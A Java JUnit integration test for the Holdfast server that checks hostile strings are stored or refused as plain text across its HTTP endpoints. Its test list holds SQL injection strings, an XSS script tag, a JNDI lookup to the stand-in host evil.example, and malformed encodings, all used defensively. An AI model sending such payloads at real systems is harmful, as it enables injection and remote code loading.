package dev.holdfast.server;

import static org.assertj.core.api.Assertions.assertThat;

import dev.holdfast.Holdfast;
import dev.holdfast.server.config.ConfigSources;
import dev.holdfast.server.config.ServerConfig;
import dev.holdfast.server.wire.UrlPath;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse;
import java.net.http.HttpResponse.BodyHandlers;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/** A real node on a real database, and texts that mean something to some language or other. */
final class HostileInputTest {
  private static final List<String> TEXTS = List.of(
      "'; DROP TABLE holdfast_entity; --",
      "\" OR 1=1 --",
      "%' OR '1'='1",
      "_%",
      "\\' \\\\",
      "$1 ? :name {fn now()}",
      "/* */ ;",
      "a/b",
      "..",
      "%00",
      "<script>alert(1)</script>",
      "${jndi:ldap://evil.example/x}",
      "\u202egnp.exe",
      "\ud83d\ude00");

  @TempDir
  static Path folder;

  private static final HttpClient HTTP = HttpClient.newHttpClient();
  private static ServerNode node;

  @BeforeAll
  static void start() {
    ServerConfig config = new ConfigSources(
            null,
            Map.of(),
            Map.of(
                "node.name", "foo",
                "http.port", "0",
                "shards", "8",
                "types.thing.main-field", "text",
                "database.url", "jdbc:sqlite:" + folder.resolve("holdfast.db")))
        .load();
    node = ServerNode.start(config, Holdfast.builder(), () -> {});
  }

  @AfterAll
  static void stop() {
    node.close();
  }

  private static HttpResponse<String> ask(String method, String path, String body, String... more) {
    HttpRequest.Builder request = HttpRequest.newBuilder(URI.create(node.url() + path))
        .timeout(Duration.ofSeconds(30))
        .header("Content-Type", "application/json")
        .method(method, BodyPublishers.ofString(body));
    if (more.length > 0) {
      request.headers(more);
    }
    try {
      return HTTP.send(request.build(), BodyHandlers.ofString());
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    } catch (InterruptedException e) {
      throw new IllegalStateException(e);
    }
  }

  private static JsonNode json(HttpResponse<String> answer) {
    return JsonMapper.shared().readTree(answer.body());
  }

  private static String value(String text) {
    return JsonMapper.shared().createObjectNode().put("text", text).toString();
  }

  @Test
  void anyTextIsAnIdAndAValueAndNothingElse() {
    for (String text : TEXTS) {
      String path = UrlPath.of("v1", "thing", text);
      assertThat(ask("PUT", path, value(text)).statusCode()).as(text).isEqualTo(201);
      assertThat(ask("PATCH", path, value("x" + text)).statusCode()).as(text).isEqualTo(200);
      JsonNode read = json(ask("GET", path, ""));
      assertThat(read.at("/id").asString()).isEqualTo(text);
      assertThat(read.at("/value/text").asString()).isEqualTo("x" + text);
      assertThat(json(ask("GET", path + "/history", "")).at("/id").asString()).isEqualTo(text);
      assertThat(json(ask("GET", path + "/placement", "")).at("/id").asString()).isEqualTo(text);
    }
    JsonNode all = json(ask("GET", "/v1/thing?limit=1000", "")).at("/items");
    assertThat(all.valueStream().map(item -> item.at("/id").asString())).containsAll(TEXTS);
  }

  @Test
  void noTextInAQueryAHeaderOrANameReachesTheDatabaseAsAnythingElse() {
    for (String text : TEXTS) {
      String encoded = UrlPath.encode(text);
      assertThat(ask("GET", "/v1/thing?after=" + encoded, "").statusCode())
          .as(text)
          .isEqualTo(200);
      assertThat(ask("GET", "/v1/thing/a?read=" + encoded, "").statusCode()).isEqualTo(400);
      assertThat(ask("GET", "/v1/" + encoded, "").statusCode()).isEqualTo(404);
      assertThat(ask("POST", "/v1/nodes/" + encoded + "/drain", "{}").statusCode())
          .isEqualTo(404);
      assertThat(ask("POST", "/v1/thing/a/changes/" + encoded, "{}").statusCode())
          .isEqualTo(404);
    }
    String quoted = "';DROP-TABLE-holdfast_entity;--";
    assertThat(
            ask("PUT", "/v1/thing/keyed", value("1"), "Idempotency-Key", quoted).statusCode())
        .isEqualTo(201);
    assertThat(ask("GET", "/v1/thing/keyed", "").statusCode()).isEqualTo(200);
  }

  @Test
  void whatIsNoTextIsRefused() {
    for (String id : List.of("%00", "a%00b", "%ED%A0%80", "%C0%AF", "%FF", "%0A", "%7F")) {
      assertThat(ask("PUT", "/v1/thing/" + id, value("x")).statusCode()).as(id).isEqualTo(400);
    }
    assertThat(ask("PUT", "/v1/thing/surrogate", "{\"text\":\"\\ud800\"}").statusCode())
        .isLessThan(500);
    assertThat(ask("PUT", "/v1/thing/zero", "{\"text\":\"\\u0000\"}").statusCode())
        .isLessThan(500);
    assertThat(ask("GET", "/v1/thing/zero", "").statusCode()).isLessThan(500);
  }

  @Test
  void aKeyThatIsUsedForAnotherBodyIsRefusedAndChangesNothing() {
    String[] key = {"Idempotency-Key", "once"};
    assertThat(ask("PUT", "/v1/thing/once", value("first"), key).statusCode()).isEqualTo(201);
    assertThat(ask("PUT", "/v1/thing/once", value("first"), key).statusCode()).isEqualTo(201);
    HttpResponse<String> other = ask("PUT", "/v1/thing/once", value("second"), key);

    assertThat(other.statusCode()).isEqualTo(422);
    assertThat(json(other).at("/type").asString()).endsWith(":operation-reused");
    assertThat(json(ask("GET", "/v1/thing/once", "")).at("/value/text").asString())
        .isEqualTo("first");
  }
}
